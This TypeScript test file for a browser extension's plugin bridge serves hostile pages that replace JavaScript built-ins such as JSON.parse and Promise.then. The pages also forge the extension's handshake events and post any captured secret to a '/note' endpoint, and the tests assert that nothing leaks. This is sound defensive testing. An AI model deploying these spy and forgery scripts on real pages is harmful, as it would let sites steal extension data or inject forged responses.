/** Threat: a hostile page runs its own code before any plugin starts. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { McpClient } from '../harness/client.ts';
import { type Stack, startStack } from '../harness/stack.ts';
import { waitFor } from '../harness/wait.ts';
import { type AttackerSite, secretText, startAttackerSite } from './attacker.ts';

const defineNoteScript = `const send = fetch.bind(window), text = JSON.stringify; const note = (x) => send('/note', { method: 'POST', body: text(x) });`;
/** spyScript is page code that replaces JavaScript built-ins. */
const spyScript = `
  const on = EventTarget.prototype.addEventListener, apply = Reflect.apply, parse = JSON.parse, then = Promise.prototype.then;
  JSON.parse = function (t) { if (String(t).includes('${secretText}')) note(['parse', t]); return apply(parse, JSON, arguments); };
  JSON.stringify = function (v) { const t = apply(text, JSON, arguments); if (String(t).includes('${secretText}')) note(['stringify', t]); return t; };
  Promise.prototype.then = function (a, b) { return apply(then, this, [(v) => { if (v && v.value === '${secretText}') note(['then', v]); return a ? a(v) : v; }, b]); };
  EventTarget.prototype.addEventListener = function (t, f, o) {
    if (t === 'down' || t === 'taken') { note(['port', t]); apply(on, this, ['down', (e) => { note(['read', e.data]); e.stopImmediatePropagation(); const a = parse(e.data);
      this.dispatchEvent(new MessageEvent('up', { data: 'r ' + a[1] + ' {"value":"FORGED"}' })); }]); }
    return apply(on, this, [t, f, o]); };
  for (const key of ['code', 'then', 'toJSON', 'value'])
    Object.defineProperty(Error.prototype, key, { configurable: true, get() { note(['getter', key, this.message]); return 'FORGED'; } });`;
/** forgeEventsScript is page code that forges the DOM events with which a bridge and a plugin host connect. */
const forgeEventsScript = `
  const { port1: mine, port2: other } = new MessageChannel();
  mine.addEventListener('taken', () => note('taken'));
  mine.addEventListener('down', (e) => { note(['read', e.data]); mine.dispatchEvent(new MessageEvent('up', { data: 'r 1 {"value":"FORGED"}' })); });
  document.addEventListener('opentabs:host', (e) => { if (e.ports[0] !== mine) note('a host offered to the page'); });
  document.dispatchEvent(new Event('opentabs:bridge'));
  document.dispatchEvent(new MessageEvent('opentabs:host', { data: '["messages","h"]', ports: [mine] }));
  mine.dispatchEvent(new MessageEvent('up', { data: 'ready' }));`;

const pageBodies: Readonly<Record<string, readonly [type: string, body: string]>> = {
  '/plain': ['text/html', '<!doctype html><title>plain</title><p>hello'],
  '/first': [
    'text/html',
    `<!doctype html><title>first</title><script>${defineNoteScript}{${forgeEventsScript}}{${spyScript}}</script>`,
  ],
  '/root': ['application/xhtml+xml', '<script xmlns="http://www.w3.org/1999/xhtml" src="/root.js"/>'],
  '/root.js': ['text/javascript', `${defineNoteScript}${forgeEventsScript}`],
  '/opener': ['text/html', '<!doctype html><title>opener</title>'],
};

let stack: Stack;
let client: McpClient;
let attackerSite: AttackerSite;

before(async () => {
  attackerSite = await startAttackerSite(pageBodies);
  stack = await startStack();
  client = await stack.connectHttp();
  await stack.page.close();
});
after(async () => {
  attackerSite?.close();
  await stack?.close();
});

async function isPluginLive(path: string): Promise<boolean> {
  const tab = await waitFor(`the tab ${path}`, async () =>
    (await stack.listTabs()).find((tab) => tab.url === `${attackerSite.origin}${path}` && !('loading' in tab)),
  );
  return (tab.plugins ?? []).length > 0;
}

async function waitForTabCount(count = 1): Promise<void> {
  await waitFor(`${count} tabs`, async () => (await stack.listTabs()).length === count);
}

async function openOnlyTab(path: string): Promise<Page> {
  await waitForTabCount(0);
  attackerSite.leakedSecrets.length = 0;
  const page = await stack.chrome.context.newPage();
  await page.goto(`${attackerSite.origin}${path}`);
  return page;
}

async function assertPageReceivedNothing(): Promise<void> {
  const echoOutcome = await client.call('messages__echo', { value: secretText });
  assert.equal(echoOutcome.isError, false, echoOutcome.text);
  assert.deepEqual(echoOutcome.structured, { value: secretText });
  const failToolOutcome = await client.call('messages__fail', { message: secretText });
  assert.equal(failToolOutcome.isError, true);
  assert.doesNotMatch(failToolOutcome.text, /FORGED/);
  assert.deepEqual(attackerSite.leakedSecrets, []);
}

test('page: a first script that replaces the built-ins of the SDK and forges events sees and changes nothing', async () => {
  const page = await openOnlyTab('/first');
  await waitFor('the plugin to be live in the page', () => isPluginLive('/first'));
  await assertPageReceivedNothing();
  await page.close();
});

test('page: a page whose root element is a script, which runs before the page has content, sees and changes nothing', async () => {
  const page = await openOnlyTab('/root');
  await waitFor('the plugin to be live in the page', () => isPluginLive('/root'));
  await assertPageReceivedNothing();
  await page.close();
});

test('page: a page in a window whose built-ins the opener replaced gets a plugin only after a reload, and sees nothing', async () => {
  const openerPage = await openOnlyTab('/opener');
  const popupPage = openerPage.waitForEvent('popup');
  await openerPage.evaluate((script) => {
    const openedWindow: unknown = window.open('/plain');
    const evaluateInPopup: unknown =
      typeof openedWindow === 'object' && openedWindow !== null ? Reflect.get(openedWindow, 'eval') : undefined;
    if (typeof evaluateInPopup === 'function') evaluateInPopup(script);
  }, `{${defineNoteScript}${spyScript}}`);
  const page = await popupPage;
  await openerPage.close();
  await waitForTabCount();
  assert.equal(await isPluginLive('/plain'), false, 'no plugin host must run with built-ins that the opener replaced');
  // The tool call reloads the tab, which creates a new Window for the page.
  const echoOutcome = await client.call('messages__echo', { value: secretText });
  if (echoOutcome.isError) {
    assert.match(echoOutcome.text, /reload/);
    await page.reload();
  }
  assert.deepEqual(attackerSite.leakedSecrets, []);
  await waitFor('the plugin to be live after the reload of the page', () => isPluginLive('/plain'));
  await assertPageReceivedNothing();
  await page.close();
});

test('page: a page finds no trace of the probe frame, in which the extension reads unmodified built-ins', async () => {
  const openerPage = await openOnlyTab('/opener');
  const popupPage = openerPage.waitForEvent('popup');
  await openerPage.evaluate(() => void window.open('/plain'));
  const page = await popupPage;
  await openerPage.close();
  await waitFor('the plugin to be live in the page', () => isPluginLive('/plain'));
  assert.deepEqual(await page.evaluate(() => [window.length, document.querySelectorAll('iframe').length]), [0, 0]);
  await assertPageReceivedNothing();
  await page.close();
});
